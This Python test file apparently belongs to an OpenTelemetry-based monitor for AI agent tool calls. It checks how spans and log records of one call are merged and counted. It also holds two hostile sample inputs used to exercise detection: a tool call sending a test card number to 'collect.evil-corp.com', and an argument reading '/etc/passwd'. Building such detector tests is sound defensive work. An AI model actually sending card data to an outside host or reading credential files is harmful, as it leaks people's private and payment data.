"""One call told in two places: its span names the tool, a log record holds what it was handed."""

from __future__ import annotations

import itertools
import json
from typing import TYPE_CHECKING, Any

import pytest
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord

from otel_anomaly.detectors import past
from otel_anomaly.detectors.finding import ALLOW, BLOCK
from tests.log_traffic import content_record
from tests.rig import Rig
from tests.traffic import START_NS, attributes, tool_span

if TYPE_CHECKING:
    from opentelemetry.proto.trace.v1.trace_pb2 import Span

TRACE = b"T" * 16
ARGUMENTS = {"path": "/srv/a.txt"}
CALLED: list[tuple[str, Any]] = [
    ("event.name", "tool_result"),
    ("tool_name", "mcp_tool"),
    ("tool_use_id", "c-1"),
]


def span_of(number: int, tool: str = "read", call_id: str | None = "c-1") -> Span:
    """A tool's span without arguments."""
    end_ns = START_NS + number * 10**9
    return tool_span(
        trace_id=TRACE,
        span_id=b"S" + number.to_bytes(7, "big"),
        start_ns=end_ns - 1000,
        end_ns=end_ns,
        tool=tool,
        call_id=call_id,
        agent="helper",
        session="s",
    )


def content_of(number: int, call_id: str = "c-1", **more: Any) -> LogRecord:
    """The record of what that span was handed."""
    given: dict[str, Any] = {"arguments": json.dumps(ARGUMENTS), **more}
    span_id = b"S" + number.to_bytes(7, "big")
    time_ns = START_NS + number * 10**9
    return content_record(
        time_ns=time_ns, trace_id=TRACE, span_id=span_id, call_id=call_id, **given
    )


def learned(rig: Rig) -> tuple[int, int, int]:
    """(tool, fingerprint, whether there are arguments) of the only call that was counted."""
    assert rig.counts("tool_calls") == 1
    (entry,) = (entry for entry in rig.state.journal if entry["serial"] != 0)
    call = entry["call"]
    return int(call["tool"]), int(call["fingerprint"]), int(call["has_arguments"])


def told_by_one_span() -> tuple[int, int, int]:
    """The same of a span that tells all by itself."""
    rig, span = Rig(detectors={}), span_of(1)
    pair = span.attributes.add(key="gen_ai.tool.call.arguments")
    pair.value.string_value = json.dumps(ARGUMENTS)
    rig.send([span])
    return learned(rig)


@pytest.mark.parametrize("order", list(itertools.permutations("slL")), ids="".join)
@pytest.mark.parametrize("call_id", ["c-1", None], ids=["with id", "without"])
def test_a_span_and_its_content(order: tuple[str, ...], call_id: str | None) -> None:
    """
    Scenario: a tool's span, with and without a call id, and the record of its arguments, which is
    delivered twice, in any order.
    Guarantees: one call, known in the end as if one span had told all.
    """
    rig = Rig(detectors={})
    for part in order:
        if part == "s":
            rig.send([span_of(1, call_id=call_id)])
        else:
            rig.send_logs([content_of(1)])
    assert learned(rig) == told_by_one_span()
    assert rig.counts("folded") == 1


def test_content_of_many_calls() -> None:
    """
    Scenario: ten calls and their records, ids used again from turn to turn; then a record whose
    span never comes.
    Guarantees: each record completes the call of the span it was written in; one that no span tells
    of is a call itself.
    """
    rig = Rig(detectors={})
    rig.send([span_of(number, call_id=f"c-{number % 3}") for number in range(1, 11)])
    records = [
        content_of(number, call_id=f"c-{number % 3}", arguments={"n": number})
        for number in range(1, 11)
    ]
    rig.send_logs(records)
    assert rig.counts("tool_calls") == 10
    calls = [entry["call"] for entry in rig.state.journal if entry["serial"] != 0]
    assert all(call["has_arguments"] and call["tool"] for call in calls)
    assert len({int(call["fingerprint"]) for call in calls}) == 10
    rig.send_logs([content_of(99, call_id="c-99")])
    assert rig.counts("tool_calls") == 11


def test_content_beside_a_span_that_tells_it() -> None:
    """
    Scenario: a span that tells its arguments, and a record that tells others.
    Guarantees: the record changes nothing: who writes twice is believed once.
    """
    rig, span = Rig(detectors={}), span_of(1)
    span.attributes.add(key="gen_ai.tool.call.arguments").value.string_value = json.dumps(ARGUMENTS)
    rig.send([span])
    rig.send_logs([content_of(1, arguments={"path": "/etc/passwd"})])
    assert learned(rig) == told_by_one_span()


@pytest.mark.parametrize("log_first", [True, False], ids=["log first", "span first"])
def test_a_name_that_stands_for_any(*, log_first: bool) -> None:
    """
    Scenario: Claude Code's record of a call, which says `mcp_tool` for every tool of every server,
    and the span that names the tool; in either order.
    Guarantees: one call of that tool, and none of a tool `mcp_tool` is ever learned.
    """
    rig, reference = Rig(detectors={}), Rig(detectors={})
    record = LogRecord(time_unix_nano=START_NS, trace_id=TRACE, attributes=attributes(CALLED))
    if log_first:
        rig.send_logs([record])
        assert learned(rig)[0] == 0
    rig.send([span_of(1)])
    if not log_first:
        rig.send_logs([record])
    reference.send([span_of(1)])
    assert learned(rig)[0] == learned(reference)[0] != 0


STOLEN = {"url": "https://collect.evil-corp.com/in", "text": "card 4111 1111 1111 1111"}


def test_what_only_the_content_tells_is_raised() -> None:
    """
    Scenario: a span without arguments, then the record of them: a card number for an outside host.
    The record is delivered twice; then the agent sends the same once more, in two parts as before.
    Guarantees: the finding is counted, raised as an episode and written on the record, once a call;
    what was blocked is not learned, so the host is no more usual the second time; each call keeps
    the verdict it was counted with.
    """
    rig = Rig(detectors={})
    rig.send([span_of(1)])
    for _ in range(2):
        rig.send_logs([content_of(1, arguments=json.dumps(STOLEN))])
    assert rig.counts("findings", "data_exfiltration", "block") == 1
    assert rig.steps().count(("start", "data_exfiltration")) == 1
    first, told, again = (call for call in rig.told if call is not None)
    assert first.action == ALLOW
    assert told.action == again.action == BLOCK
    assert rig.counts("verdicts", "allow") == rig.counts("tool_calls") == 1
    rig.send([span_of(2, call_id="c-2")])
    rig.send_logs([content_of(2, call_id="c-2", arguments=json.dumps(STOLEN))])
    assert rig.counts("findings", "data_exfiltration", "block") == 2
    (agent,) = (row for row in rig.state.agents.rows if row["key"] != 0)
    assert past.known(agent["past"], past.DESTINATIONS) == 0
